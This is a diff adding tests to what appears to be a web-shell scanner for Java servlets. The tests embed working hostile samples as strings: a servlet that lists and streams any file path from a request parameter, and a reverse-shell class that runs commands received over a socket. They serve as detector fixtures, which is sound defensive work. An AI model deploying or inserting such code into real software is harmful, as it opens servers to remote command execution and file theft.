@@ -96,3 +96,36 @@ def test_mime_launcher_exec_path_set_by_reflection():
 def test_field_set_elsewhere_is_plain_reflection():
     benign('<%\njava.lang.reflect.Field f = bean.getClass().getDeclaredField("name");\n'
            'f.set(bean, request.getParameter("name"));\n%>')
+
+
+def test_servlet_listing_and_streaming_any_path():
+    h = shell('import java.io.*;\nimport javax.servlet.http.*;\npublic class L extends HttpServlet {\n'
+              'public void doGet(HttpServletRequest req, HttpServletResponse res) throws IOException {\n'
+              'PrintWriter w = res.getWriter();\nString path = req.getParameter("file");\nFile f = new File(path);\n'
+              'if (f.isDirectory()) { for (File x : f.listFiles()) w.write(x.toString()); }\n'
+              'else { FileInputStream in = new FileInputStream(f); int j; while ((j = in.read()) >= 0) w.write(j); }\n'
+              '}\n}\n', "L.java")
+    assert h.rule == "jsp.file-manager"
+
+
+def test_servlet_serving_files_under_its_root_is_not_a_browser():
+    benign('import java.io.*;\nimport javax.servlet.http.*;\npublic class S extends HttpServlet {\n'
+           'public void doGet(HttpServletRequest req, HttpServletResponse res) throws IOException {\n'
+           'File root = new File(getServletContext().getRealPath("/files"));\n'
+           'File f = new File(root, req.getParameter("file"));\n'
+           'if (!f.getCanonicalPath().startsWith(root.getCanonicalPath())) return;\n'
+           'if (f.isDirectory()) { for (File x : f.listFiles()) res.getWriter().write(x.getName()); }\n'
+           'else { FileInputStream in = new FileInputStream(f); in.transferTo(res.getOutputStream()); }\n'
+           '}\n}\n', "S.java")
+
+
+def test_java_source_with_dollar_brace_strings_is_read_as_a_class():
+    # `"${tmp}"` in a Java string is not EL: the class (a reverse shell through a helper) is read as Java
+    h = shell('import java.io.*;\nimport java.net.Socket;\npublic class C {\n'
+              'static String run(String cmd) throws IOException {\n'
+              'return new String(Runtime.getRuntime().exec(cmd.replace("${tmp}", "/tmp")).getInputStream().readAllBytes());\n'
+              '}\npublic static void shell(String host, int port) throws IOException {\n'
+              'Socket s = new Socket(host, port);\nInputStream in = s.getInputStream();\nOutputStream out = s.getOutputStream();\n'
+              'byte[] b = new byte[4096];\nint a;\nwhile ((a = in.read(b)) != -1) out.write(run(new String(b, 0, a)).getBytes());\n'
+              '}\n}\n', "C.java")
+    assert h.rule == "jsp.request-to-exec"
